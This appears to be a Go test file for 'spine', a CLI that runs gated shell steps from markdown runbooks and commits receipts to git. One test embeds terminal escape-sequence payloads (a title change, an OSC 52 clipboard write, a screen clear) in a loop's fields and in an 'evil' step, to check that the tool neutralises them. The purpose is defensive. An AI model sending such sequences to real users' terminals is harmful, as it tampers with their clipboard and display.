package main

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/creack/pty"
	"github.com/google/go-cmp/cmp"
	"gopkg.in/yaml.v3"
)

// ansiRe matches terminal escape sequences.
var ansiRe = regexp.MustCompile(`\x1b\[[0-9;]*[A-Za-z]`)

// spineBin is spine built once for tests that need a real process (a
// terminal, a detached supervisor).
var spineBin string

func TestMain(m *testing.M) {
	// The demo's background step re-executes this binary as the
	// supervisor; the test binary plays spine's part.
	if len(os.Args) > 1 && os.Args[1] == supervisorCmd {
		os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
	}
	dir, err := os.MkdirTemp("", "spine-cmd-")
	if err != nil {
		panic(err)
	}
	spineBin = filepath.Join(dir, "spine")
	if out, err := exec.Command("go", "build", "-o", spineBin, ".").CombinedOutput(); err != nil {
		os.Stderr.Write(out)
		panic(err)
	}
	code := m.Run()
	os.RemoveAll(dir)
	os.Exit(code)
}

// spine runs the command line in-process and returns stdout, stderr and
// the exit code.
func spine(t *testing.T, args ...string) (string, string, int) {
	t.Helper()
	var out, errb bytes.Buffer
	code := run(args, &out, &errb)
	return out.String(), errb.String(), code
}

// gitRepo makes an empty git repository with one commit.
func gitRepo(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	for _, args := range [][]string{{"init", "-q", "-b", "main"}, {"commit", "-q", "--allow-empty", "-m", "start"}} {
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
	}
	return dir
}

func gitCmd(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v %s", args, err, out)
	}
	return string(out)
}

type receiptJSON struct {
	RunKey   string `json:"run_key"`
	LoopID   string `json:"loop_id"`
	Step     string `json:"step"`
	Status   string `json:"status"`
	Gate     string `json:"gate"`
	Summary  string `json:"summary"`
	Approval *struct {
		Source string `json:"source"`
	} `json:"approval"`
	Checks []struct {
		ID            string `json:"id"`
		Command       string `json:"command"`
		CommandSHA256 string `json:"command_sha256"`
	} `json:"checks"`
}

func TestDemoEndToEnd(t *testing.T) {
	sandbox := t.TempDir()
	dir := filepath.Join(sandbox, "demo")
	// Anything written outside DIR would land in the sandbox's TMPDIR or
	// HOME, which must stay empty.
	tmp, home := filepath.Join(sandbox, "tmp"), filepath.Join(sandbox, "home")
	os.MkdirAll(tmp, 0o755)
	os.MkdirAll(home, 0o755)
	t.Setenv("TMPDIR", tmp)
	t.Setenv("HOME", home)
	start := time.Now()
	out, errs, code := spine(t, "demo", "--dir", dir)
	if code != 0 {
		t.Fatalf("demo exit %d\n%s\n%s", code, out, errs)
	}
	if el := time.Since(start); el > 30*time.Second {
		t.Errorf("demo took %s, want under 30s", el)
	}
	for _, want := range []string{"wipe-targets is blocked", "ALLOW_MD1400_PROVISION=yes", "started in the background", "receipts written and committed", "index.html"} {
		if !strings.Contains(out, want) {
			t.Errorf("demo output lacks %q", want)
		}
	}
	// The commands it suggests work.
	if status, _, code := spine(t, "status", "--repo", dir, "LOOP-MD1400-CAPACITY-DEMO"); code != 0 || !strings.Contains(status, "wipe-targets") || !strings.Contains(out, "spine status --repo "+dir+" LOOP-MD1400-CAPACITY-DEMO") {
		t.Errorf("spine status of the demo loop: exit %d\n%s", code, status)
	}
	// A folder with something in it is refused as bad usage.
	if _, errOut, code := spine(t, "demo", "--dir", dir); code != 2 || !strings.Contains(errOut, "is not empty") {
		t.Errorf("demo into the used folder: exit %d, %q; want 2", code, errOut)
	}
	// The receipts tell the story: a blocked gate, then approved runs, the
	// background copy, the closeout packs.
	var rcs []receiptJSON
	files, _ := filepath.Glob(filepath.Join(dir, "receipts", "*", "*", "*", "*", "receipt.json"))
	for _, f := range files {
		var rc receiptJSON
		b, _ := os.ReadFile(f)
		if err := json.Unmarshal(b, &rc); err != nil {
			t.Fatal(err)
		}
		rcs = append(rcs, rc)
	}
	byStep := map[string][]string{}
	for _, rc := range rcs {
		byStep[rc.Step] = append(byStep[rc.Step], rc.Status)
		if rc.Step == "create-pool" && (rc.Approval == nil || rc.Approval.Source != "env") {
			t.Errorf("create-pool approval = %+v, want env", rc.Approval)
		}
		if rc.Step == "verify-infra-baseline" && rc.Summary != "2/3 PASS; non-blocking fail: D188" {
			t.Errorf("baseline verify summary = %q", rc.Summary)
		}
		if rc.Step == "verify-infra-baseline" {
			// Each check's command as it ran, on the receipt and its page.
			page, err := os.ReadFile(filepath.Join(dir, "public", "receipts", rc.RunKey, "index.html"))
			if err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(string(page), "No command of its own: its checks ran, each with its command") {
				t.Error("the verify step's receipt page shows an empty Command section")
			}
			for _, c := range rc.Checks {
				if c.Command == "" || c.CommandSHA256 != fmt.Sprintf("%x", sha256.Sum256([]byte(c.Command))) {
					t.Errorf("check %s records command %q, hash %q", c.ID, c.Command, c.CommandSHA256)
				}
				if !strings.Contains(string(page), "<code>"+html.EscapeString(c.Command)+"</code>") {
					t.Errorf("the receipt page does not show check %s's command %q", c.ID, c.Command)
				}
			}
		}
	}
	for step, want := range map[string][]string{
		"wipe-targets":       {"blocked", "pass"},
		"rsync-media":        {"pass"},
		"post-copy-zfs-list": {"pass"},
		"verify-media":       {"pass"},
		"verify-infra-final": {"pass"},
	} {
		got := byStep[step]
		if len(want) == 2 && len(got) == 2 && got[0] != got[1] {
			// order of the two receipts of the same second may differ
			got = []string{"blocked", "pass"}
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s receipts (-want +got):\n%s", step, diff)
		}
	}
	if s := gitCmd(t, dir, "status", "--porcelain"); strings.TrimSpace(s) != "" {
		t.Errorf("demo left the working tree dirty:\n%s", s)
	}
	if _, _, code := spine(t, "--repo", dir, "verify"); code != 0 {
		t.Errorf("verify of the demo: exit %d", code)
	}
	// The last receipt of a loop removed: the chain cannot show it, the
	// loop's evidence block does.
	tips := 0
	for i, f := range files {
		if rcs[i].Step != "verify-infra-final" {
			continue
		}
		tips++
		run := filepath.Dir(f)
		aside := filepath.Join(sandbox, "aside")
		if err := os.Rename(run, aside); err != nil {
			t.Fatal(err)
		}
		out, _, code := spine(t, "--repo", dir, "verify")
		if code != exitFailed || !strings.Contains(out, filepath.Base(run)+": the evidence block records this run (pass, step verify-infra-final)") {
			t.Errorf("verify with the last receipt removed: exit %d\n%s", code, out)
		}
		if err := os.Rename(aside, run); err != nil {
			t.Fatal(err)
		}
	}
	if tips != 1 {
		t.Errorf("%d receipts of verify-infra-final, want 1", tips)
	}
	for _, d := range []string{tmp, home} {
		if entries, _ := os.ReadDir(d); len(entries) > 0 {
			t.Errorf("demo wrote outside its folder: %s holds %v", d, entries)
		}
	}
	// `site build` plans the step states on another goroutine while the
	// build starts; its pages are those the demo built with the states
	// planned first.
	again := filepath.Join(sandbox, "site-again")
	if out, errs, code := spine(t, "--repo", dir, "site", "build", "--out", again); code != 0 {
		t.Fatalf("site build: exit %d\n%s\n%s", code, out, errs)
	}
	demoPages, againPages := sitePages(t, filepath.Join(dir, "public")), sitePages(t, again)
	if len(demoPages) == 0 {
		t.Fatal("the demo built no site pages")
	}
	if diff := cmp.Diff(demoPages, againPages); diff != "" {
		t.Errorf("site build differs from the demo's site (-demo +site build):\n%s", diff)
	}
}

// sitePages returns the HTML pages of a built site by their path in it.
func sitePages(t *testing.T, out string) map[string]string {
	t.Helper()
	pages := map[string]string{}
	err := filepath.WalkDir(out, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(p, ".html") {
			return err
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(out, p)
		pages[filepath.ToSlash(rel)] = string(b)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return pages
}

func TestInitFreshAndRefusedTwice(t *testing.T) {
	dir := gitRepo(t)
	out, _, code := spine(t, "--repo", dir, "init")
	if code != 0 {
		t.Fatalf("init: exit %d", code)
	}
	for _, f := range []string{"spine.yaml", "gaps.yaml", "verify/example.yaml", "loops/LOOP-EXAMPLE.md", ".github/workflows/spine.yml"} {
		if _, err := os.Stat(filepath.Join(dir, f)); err != nil {
			t.Errorf("init did not write %s", f)
		}
		if !strings.Contains(out, f) {
			t.Errorf("init output does not name %s", f)
		}
	}
	if !strings.Contains(out, "Next:") {
		t.Error("init does not print the next commands")
	}
	// The built site is never committed: git itself ignores it.
	if !strings.Contains(out, "wrote .gitignore") || strings.Contains(out, "does not ignore public/") {
		t.Errorf("init in a repository without .gitignore:\n%s", out)
	}
	if err := exec.Command("git", "-C", dir, "check-ignore", "-q", "public/index.html").Run(); err != nil {
		t.Errorf("git does not ignore public/ after init: %v", err)
	}
	if _, _, code := spine(t, "--repo", dir, "lint"); code != 0 {
		t.Errorf("lint of a fresh init: exit %d", code)
	}
	before, _ := os.ReadFile(filepath.Join(dir, "spine.yaml"))
	os.WriteFile(filepath.Join(dir, "spine.yaml"), append(before, "# mine\n"...), 0o644)
	_, errs, code := spine(t, "--repo", dir, "init")
	if code != 2 || !strings.Contains(errs, "already initialised") {
		t.Fatalf("second init: exit %d, %q", code, errs)
	}
	after, _ := os.ReadFile(filepath.Join(dir, "spine.yaml"))
	if !bytes.HasSuffix(after, []byte("# mine\n")) {
		t.Error("second init overwrote spine.yaml")
	}
	if _, _, code := spine(t, "--repo", t.TempDir(), "init"); code != 2 {
		t.Errorf("init outside a git repository: exit %d, want 2", code)
	}

	// A .gitignore of the repository's own is left as it is, with a hint
	// when it does not ignore the site.
	dir = gitRepo(t)
	mine := []byte("*.tmp\n")
	os.WriteFile(filepath.Join(dir, ".gitignore"), mine, 0o644)
	out, _, code = spine(t, "--repo", dir, "init")
	if code != 0 || strings.Contains(out, "wrote .gitignore") || !strings.Contains(out, "add /public/ to it") {
		t.Fatalf("init with a .gitignore of its own: exit %d\n%s", code, out)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, ".gitignore")); !bytes.Equal(b, mine) {
		t.Errorf("init changed the repository's .gitignore: %q", b)
	}
}

// demoRepo writes the demo repository without running it.
func loopRepo(t *testing.T, doc string) string {
	t.Helper()
	dir := gitRepo(t)
	os.MkdirAll(filepath.Join(dir, "loops"), 0o755)
	os.WriteFile(filepath.Join(dir, "loops", "a.md"), []byte(doc), 0o644)
	gitCmd(t, dir, "add", "-A")
	gitCmd(t, dir, "commit", "-q", "-m", "loop")
	return dir
}

const outputLoop = "---\nloop_id: LOOP-OUT\nstatus: active\n---\n\n# Loop Scope: LOOP-OUT\n\n## Stage 1: Go\n\n```sh {name=talk}\necho hello from the step\nsleep 0.6\necho done\n```\n\n```sh {name=break}\necho oops >&2\nexit 4\n```\n"

func TestRunOutputUnderTerminalAndPipe(t *testing.T) {
	// Under a terminal: colour, a spinner, and the result lines.
	dir := loopRepo(t, outputLoop)
	cmd := exec.Command(spineBin, "--repo", dir, "run")
	cmd.Env = append(os.Environ(), "TERM=xterm", "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com")
	f, err := pty.Start(cmd)
	if err != nil {
		t.Fatal(err)
	}
	var screen bytes.Buffer
	io.Copy(&screen, f) // returns when the process closes the terminal
	cmd.Wait()
	got := screen.String()
	plain := ansiRe.ReplaceAllString(got, "")
	for _, want := range []string{"hello from the step", "✔ talk", "✖ break exit 4", "⠋", "LOOP", "NEXT", "--retry break"} {
		if !strings.Contains(plain, want) {
			t.Errorf("terminal output lacks %q:\n%s", want, got)
		}
	}
	if !strings.Contains(got, "\x1b[32m") {
		t.Errorf("terminal output has no colour:\n%q", got)
	}
	if cmd.ProcessState.ExitCode() != 1 {
		t.Errorf("exit %d, want 1", cmd.ProcessState.ExitCode())
	}

	// Piped: the same information without escape sequences.
	dir = loopRepo(t, outputLoop)
	c := exec.Command(spineBin, "--repo", dir, "run")
	out, _ := c.CombinedOutput()
	if bytes.Contains(out, []byte("\x1b[")) {
		t.Errorf("piped output has escape sequences:\n%q", out)
	}
	for _, want := range []string{"hello from the step", "✔ talk", "✖ break exit 4"} {
		if !strings.Contains(string(out), want) {
			t.Errorf("piped output lacks %q:\n%s", want, out)
		}
	}

	// NO_COLOR on a terminal: no colour.
	dir = loopRepo(t, outputLoop)
	cmd = exec.Command(spineBin, "--repo", dir, "run")
	cmd.Env = append(os.Environ(), "TERM=xterm", "NO_COLOR=1")
	f, err = pty.Start(cmd)
	if err != nil {
		t.Fatal(err)
	}
	screen.Reset()
	io.Copy(&screen, f)
	cmd.Wait()
	if strings.Contains(screen.String(), "\x1b[3") || strings.Contains(screen.String(), "\x1b[1m") {
		t.Errorf("NO_COLOR output has colour:\n%q", screen.String())
	}

	// --quiet prints nothing on success; --json prints only JSON.
	dir = loopRepo(t, strings.Replace(outputLoop, "exit 4", "true", 1))
	qout, errs, code := spine(t, "--repo", dir, "run", "--quiet")
	if qout != "" || code != 0 {
		t.Errorf("--quiet: exit %d, printed %q %q", code, qout, errs)
	}
	dir = loopRepo(t, strings.Replace(outputLoop, "exit 4", "true", 1))
	jout, _, _ := spine(t, "--repo", dir, "run", "--json")
	var rcs []receiptJSON
	if err := json.Unmarshal([]byte(jout), &rcs); err != nil || len(rcs) != 2 {
		t.Errorf("--json output is not the 2 receipts: %v\n%s", err, jout)
	}
}

func TestJSONContracts(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-J\nstatus: active\nowner: \"@o\"\npriority: high\n---\n\n# Loop Scope: LOOP-J\n\nSee GAP-OP-7 and CAP-20260101-000000__x.y__Rabc.\n\n## Stage 1: A\n\n```sh {name=a}\ntrue\n```\n\n```sh {name=b gate=ALLOW_B}\ntrue\n```\n")
	out, _, code := spine(t, "--repo", dir, "status", "--json")
	if code != 0 {
		t.Fatalf("status exit %d", code)
	}
	var st []map[string]any
	if err := json.Unmarshal([]byte(out), &st); err != nil || len(st) != 1 {
		t.Fatalf("status --json: %v\n%s", err, out)
	}
	for _, k := range []string{"loop_id", "path", "status", "title", "owner", "priority", "heartbeat_stale", "run_keys", "gaps", "stages", "problems"} {
		if _, ok := st[0][k]; !ok {
			t.Errorf("status --json lacks %q", k)
		}
	}
	if diff := cmp.Diff([]any{"CAP-20260101-000000__x.y__Rabc"}, st[0]["run_keys"]); diff != "" {
		t.Errorf("run_keys: %s", diff)
	}
	out, _, code = spine(t, "--repo", dir, "plan", "--json")
	var plan []map[string]string
	if err := json.Unmarshal([]byte(out), &plan); err != nil {
		t.Fatalf("plan --json: %v\n%s", err, out)
	}
	want := []map[string]string{
		{"loop_id": "LOOP-J", "stage": "Stage 1: A", "name": "a", "state": "pending", "reason": "ready to run"},
		{"loop_id": "LOOP-J", "stage": "Stage 1: A", "name": "b", "state": "blocked"},
	}
	plan[1]["reason"] = strings.Fields(plan[1]["reason"])[0]
	want[1]["reason"] = "gate"
	if diff := cmp.Diff(want, plan); diff != "" {
		t.Errorf("plan --json (-want +got):\n%s", diff)
	}
	if code != 3 {
		t.Errorf("plan with a blocked gate: exit %d, want 3", code)
	}
}

// TestRunJSONWhenTheCommitFails: a step ran, then its stage's commit
// failed (a foreign index.lock): run --json still prints the receipt of
// the run executed, and exits 1.
func TestRunJSONWhenTheCommitFails(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-C\nstatus: active\n---\n\n# Loop Scope: LOOP-C\n\n## Stage 1: A\n\n```sh {name=a}\necho a\n```\n")
	if err := os.WriteFile(filepath.Join(dir, ".git", "index.lock"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	out, errOut, code := spine(t, "--repo", dir, "run", "--json")
	var rcs []map[string]any
	if err := json.Unmarshal([]byte(out), &rcs); err != nil || len(rcs) != 1 || rcs[0]["step"] != "a" {
		t.Fatalf("run --json with the commit failing: %v, stdout %q", err, out)
	}
	if code != 1 || !strings.Contains(errOut, "index.lock") {
		t.Errorf("exit %d, stderr %q; want 1, naming the lock", code, errOut)
	}
}

func TestHelpEndsWithExitStatus(t *testing.T) {
	for _, c := range newRootCmd(newApp(io.Discard, io.Discard)).Commands() {
		if c.Hidden || c.Name() == "help" || c.Name() == "completion" {
			continue
		}
		out, _, _ := spine(t, c.Name(), "--help")
		if !strings.HasSuffix(strings.TrimSpace(out), "141 the reader of the output went away (spine gap list | head)") {
			t.Errorf("spine %s --help does not end with EXIT STATUS:\n%s", c.Name(), out)
		}
	}
}

// TestRepositoryBehindSymlink: a repository reached through a symbolic
// link (/srv/ops -> /data/ops), as --repo or as the working directory,
// is read like the real folder, not as an empty one.
func TestRepositoryBehindSymlink(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-L\nstatus: active\n---\n\n# Loop Scope: LOOP-L\n\n## Stage 1: A\n\n```sh {name=a}\ntrue\n```\n")
	link := filepath.Join(t.TempDir(), "ops")
	if err := os.Symlink(dir, link); err != nil {
		t.Fatal(err)
	}
	loopIDs := func(out string) []string {
		t.Helper()
		var st []struct {
			LoopID string `json:"loop_id"`
		}
		if err := json.Unmarshal([]byte(out), &st); err != nil {
			t.Fatalf("status --json: %v\n%s", err, out)
		}
		var ids []string
		for _, s := range st {
			ids = append(ids, s.LoopID)
		}
		return ids
	}
	out, errOut, code := spine(t, "--repo", link, "status", "--json")
	if code != 0 {
		t.Fatalf("--repo LINK status: exit %d: %s", code, errOut)
	}
	if diff := cmp.Diff([]string{"LOOP-L"}, loopIDs(out)); diff != "" {
		t.Errorf("--repo LINK status --json loops (-want +got):\n%s", diff)
	}
	t.Chdir(link)
	t.Setenv("PWD", link)
	out, errOut, code = spine(t, "status", "--json")
	if code != 0 {
		t.Fatalf("status from inside LINK: exit %d: %s", code, errOut)
	}
	if diff := cmp.Diff([]string{"LOOP-L"}, loopIDs(out)); diff != "" {
		t.Errorf("status --json from inside LINK, loops (-want +got):\n%s", diff)
	}
}

// TestRunSaysWhatWaits checks that a run with nothing to run but a step
// held from before (here a failure not retried) says which step waits and
// why, with exit status 3, rather than that nothing is pending.
func TestRunSaysWhatWaits(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-W\nstatus: active\n---\n\n# Loop Scope: LOOP-W\n\n## Stage 1: Go\n\n```sh {name=boom}\nexit 4\n```\n")
	if _, _, code := spine(t, "--repo", dir, "run"); code != 1 {
		t.Fatalf("first run: exit %d, want 1", code)
	}
	gitCmd(t, dir, "commit", "-q", "--allow-empty", "-m", "later")
	out, _, code := spine(t, "--repo", dir, "run")
	if code != 3 {
		t.Errorf("second run: exit %d, want 3", code)
	}
	for _, want := range []string{"1 step(s) wait for an operator", "LOOP-W boom failed", "--retry boom"} {
		if !strings.Contains(out, want) {
			t.Errorf("second run's output lacks %q:\n%s", want, out)
		}
	}
}

// TestRetryNamesAStep: --retry with a name no loop's step has (or, with
// --loop, that loop's) is refused with exit 2, naming it, before anything
// runs; the step's own name retries it.
func TestRetryNamesAStep(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-W\nstatus: active\n---\n\n# Loop Scope: LOOP-W\n\n## Stage 1: Go\n\n```sh {name=boom}\necho ran >> ran.txt\nexit 4\n```\n")
	if _, _, code := spine(t, "--repo", dir, "run"); code != 1 {
		t.Fatalf("first run: exit %d, want 1", code)
	}
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"--retry", "bom"}, `--retry bom: no loop has a step "bom"`},
		{[]string{"--retry", "boom", "--retry", "nosuch"}, `no loop has a step "nosuch"`},
		{[]string{"--loop", "LOOP-W", "--retry", "other"}, `--retry other: loop LOOP-W has no step "other"`},
	} {
		_, errOut, code := spine(t, append([]string{"--repo", dir, "run"}, tc.args...)...)
		if code != 2 || !strings.Contains(errOut, tc.want) {
			t.Errorf("run %v: exit %d, %q; want 2 and %q", tc.args, code, errOut, tc.want)
		}
	}
	if data, _ := os.ReadFile(filepath.Join(dir, "ran.txt")); string(data) != "ran\n" {
		t.Fatalf("refused runs ran the step: %q", data)
	}
	if _, _, code := spine(t, "--repo", dir, "run", "--retry", "boom"); code != 1 {
		t.Fatalf("--retry boom: exit %d, want 1 (it fails again)", code)
	}
	if data, _ := os.ReadFile(filepath.Join(dir, "ran.txt")); string(data) != "ran\nran\n" {
		t.Fatalf("--retry boom ran the step %q", data)
	}
}

// TestUnreadableLoopIsNamed: a loop document spine cannot read as a loop
// at all (a NUL byte, empty, or over the size limit) says nothing of its
// status, so it is not passed over as inactive: spine run and spine plan
// name it with its file:line and exit 2, spine status lists it with its
// finding, and the other loops still run.
func TestUnreadableLoopIsNamed(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-OK\nstatus: active\n---\n\n# Loop Scope: LOOP-OK\n\n## Stage 1: Go\n\n```sh {name=ok}\necho ok > ok.txt\n```\n")
	os.WriteFile(filepath.Join(dir, "loops", "nul.md"), []byte("---\nloop_id: LOOP-NUL\nstatus: active\nowner: \"a\x00b\"\n---\n\n# LOOP-NUL\n"), 0o644)
	os.WriteFile(filepath.Join(dir, "loops", "empty.md"), nil, 0o644)
	os.WriteFile(filepath.Join(dir, "loops", "big.md"), append([]byte("---\nloop_id: LOOP-BIG\nstatus: active\n---\n"), bytes.Repeat([]byte("x\n"), 4_300_000)...), 0o644)
	gitCmd(t, dir, "add", "-A")
	gitCmd(t, dir, "commit", "-q", "-m", "bad documents")
	if out, _, _ := spine(t, "--repo", dir, "status"); !strings.Contains(out, "big") {
		t.Errorf("spine status does not list the document over the size limit:\n%s", out)
	}
	for _, args := range [][]string{{"plan"}, {"run"}} {
		out, errOut, code := spine(t, append([]string{"--repo", dir}, args...)...)
		for _, want := range []string{"loops/nul.md:4: error: binary file (NUL byte)", "loops/empty.md:1: error: empty document", "loops/big.md:1: error: document is 8600041 bytes, over the 8388608-byte limit"} {
			if !strings.Contains(out+errOut, want) {
				t.Errorf("spine %v does not name %q:\n%s%s", args, want, out, errOut)
			}
		}
		if code != 2 {
			t.Errorf("spine %v: exit %d, want 2", args, code)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "ok.txt")); err != nil {
		t.Errorf("the valid loop did not run: %v", err)
	}
}

// TestEscapeSequencesNotSent: a step's output and a document's text are
// data: escape sequences in them (a window title, a clear screen, the
// clipboard) reach the terminal, and git log, in caret notation, never as
// control characters; the output log keeps the bytes as they were.
func TestEscapeSequencesNotSent(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-ESC\nstatus: active\nowner: \"\\e]0;PWNED\\a\"\n---\n\n# Loop Scope: LOOP-ESC\n\n## Stage 1: Red \x1b[31mtitle\n\n```sh {name=evil}\nprintf '\\033]0;EVIL\\007 \\033]52;c;aGk=\\007 \\033[2J\\n'\n```\n")
	out, errOut, code := spine(t, "--repo", dir, "run")
	if code != 0 {
		t.Fatalf("run: exit %d\n%s%s", code, out, errOut)
	}
	status, _, _ := spine(t, "--repo", dir, "status")
	log := gitCmd(t, dir, "log", "--format=%s")
	for what, text := range map[string]string{"run": out + errOut, "status": status, "git log": log} {
		if strings.ContainsAny(text, "\x1b\x07") {
			t.Errorf("%s sent a control character:\n%q", what, text)
		}
	}
	for _, want := range []string{"^[]0;EVIL^G", "^[[2J", "Red ^[[31mtitle"} {
		if !strings.Contains(out, want) {
			t.Errorf("run's output lacks %q:\n%s", want, out)
		}
	}
	if !strings.Contains(status, "^[]0;PWNED^G") {
		t.Errorf("status does not show the owner in caret notation:\n%s", status)
	}
	logs, _ := filepath.Glob(filepath.Join(dir, "receipts", "*", "*", "*", "*", "output.log"))
	if len(logs) != 1 {
		t.Fatalf("%d output logs", len(logs))
	}
	if data, _ := os.ReadFile(logs[0]); !bytes.Contains(data, []byte("\x1b]0;EVIL\x07")) {
		t.Errorf("the output log does not keep the bytes as the step wrote them:\n%q", data)
	}
}

// TestStatusOfALoop: spine status LOOP-ID shows the loop step by step,
// done or not, with why a step waits; --json with a loop id gives that
// loop alone; an unknown id is refused with exit 2.
func TestStatusOfALoop(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-S\nstatus: active\nowner: \"@dana\"\n---\n\n# Loop Scope: LOOP-S\n\n## Stage 1: Read\n\n```sh {name=look}\ntrue\n```\n\n## Stage 2: Change\n\n```sh {name=change gate=ALLOW_S}\ntrue\n```\n")
	if _, _, code := spine(t, "--repo", dir, "run"); code != 3 {
		t.Fatalf("run: exit %d, want 3 (the gate)", code)
	}
	out, _, code := spine(t, "--repo", dir, "status", "LOOP-S")
	if code != 0 {
		t.Fatalf("status LOOP-S: exit %d", code)
	}
	for _, want := range []*regexp.Regexp{
		regexp.MustCompile(`(?m)^LOOP-S \(active, owner @dana\): loops/a\.md$`),
		regexp.MustCompile(`(?m)^Stage 1: Read\s+look\s+done\s+-$`),
		regexp.MustCompile(`(?m)^Stage 2: Change\s+change\s+blocked\s+gate ALLOW_S not approved`),
	} {
		if !want.MatchString(out) {
			t.Errorf("status LOOP-S does not match %s:\n%s", want, out)
		}
	}
	js, _, _ := spine(t, "--repo", dir, "status", "--json", "LOOP-S", "LOOP-S")
	var got []statusLoop
	if err := json.Unmarshal([]byte(js), &got); err != nil || len(got) != 1 || got[0].LoopID != "LOOP-S" || got[0].Stages[1].Steps[0].State != "blocked" {
		t.Errorf("status --json LOOP-S: %v\n%s", err, js)
	}
	if _, errOut, code := spine(t, "--repo", dir, "status", "LOOP-NOPE"); code != 2 || !strings.Contains(errOut, `no loop "LOOP-NOPE"`) {
		t.Errorf("status LOOP-NOPE: exit %d, %q", code, errOut)
	}
	// Two documents of one id (a lint error): both, each with its path.
	doc, _ := os.ReadFile(filepath.Join(dir, "loops", "a.md"))
	os.WriteFile(filepath.Join(dir, "loops", "b.md"), doc, 0o644)
	js, _, _ = spine(t, "--repo", dir, "status", "--json", "LOOP-S")
	got = nil
	if err := json.Unmarshal([]byte(js), &got); err != nil || len(got) != 2 || got[0].Path != "loops/a.md" || got[1].Path != "loops/b.md" || len(got[1].Problems) == 0 {
		t.Errorf("status --json of an id two documents share: %v\n%s", err, js)
	}
}

// TestStatusAsAnotherHost: status --host shows the steps as that host
// sees them, as plan --host does, and refuses a host name that is none.
func TestStatusAsAnotherHost(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-H\nstatus: active\n---\n\n# Loop Scope: LOOP-H\n\n## Stage 1: Go\n\n```sh {name=go host=alpha}\ntrue\n```\n")
	for host, want := range map[string]string{"alpha": "pending", "beta": "waiting"} {
		js, errOut, code := spine(t, "--repo", dir, "status", "--json", "--host", host, "LOOP-H")
		var got []statusLoop
		if err := json.Unmarshal([]byte(js), &got); err != nil || code != 0 || len(got) != 1 || got[0].Stages[0].Steps[0].State != want {
			t.Errorf("status --host %s: exit %d, %v, want the step %s\n%s%s", host, code, err, want, js, errOut)
		}
	}
	if _, errOut, code := spine(t, "--repo", dir, "status", "--host", "bad host"); code != 2 || !strings.Contains(errOut, "--host") {
		t.Errorf("status --host 'bad host': exit %d, %q", code, errOut)
	}
}

// TestUnknownRemoteRefusedBeforeAnythingRuns: run --push to a remote the
// repository does not have, and watch following one, are refused with
// exit 2 before any step runs.
func TestUnknownRemoteRefusedBeforeAnythingRuns(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-R\nstatus: active\n---\n\n# Loop Scope: LOOP-R\n\n## Stage 1: Go\n\n```sh {name=go}\necho ran >> ran.txt\n```\n")
	for _, args := range [][]string{{"run", "--push", "--remote", "nope"}, {"run", "--push"}, {"watch", "--once", "--remote", "nope"}} {
		_, errOut, code := spine(t, append([]string{"--repo", dir}, args...)...)
		if code != 2 || !strings.Contains(errOut, "the repository has no remote") {
			t.Errorf("spine %v: exit %d, %q; want 2, naming the remote", args, code, errOut)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "ran.txt")); err == nil {
		t.Error("a step ran")
	}
}

// TestSiteKeepsTheHistoryOfAPackWhoseFileIsGone: a verify pack whose file
// was removed keeps its page (its runs are evidence), which says the file
// is gone and shows each check's command as it last ran.
func TestSiteKeepsTheHistoryOfAPackWhoseFileIsGone(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "demo")
	if out, errs, code := spine(t, "demo", "--dir", dir); code != 0 {
		t.Fatalf("demo: exit %d\n%s%s", code, out, errs)
	}
	gitCmd(t, dir, "rm", "-q", "verify/media.yaml")
	gitCmd(t, dir, "commit", "-q", "-m", "retire the media pack")
	if out, errs, code := spine(t, "--repo", dir, "site", "build"); code != 0 {
		t.Fatalf("site build: exit %d\n%s%s", code, out, errs)
	}
	page, err := os.ReadFile(filepath.Join(dir, "public", "verify", "media", "index.html"))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"<b>No file.</b>", "zfs list -H -o name,avail md1400"} {
		if !strings.Contains(string(page), want) {
			t.Errorf("the retired pack's page lacks %q", want)
		}
	}
	index, _ := os.ReadFile(filepath.Join(dir, "public", "verify", "index.html"))
	if !strings.Contains(string(index), "its file is no longer in verify/; its runs remain") {
		t.Error("the packs index does not say the media pack's file is gone")
	}
}

// TestSiteKeepsTheOldPermalinkOfARenamedLoop: after a loop's id changed,
// its old permalink leads to the loop's page under the new id.
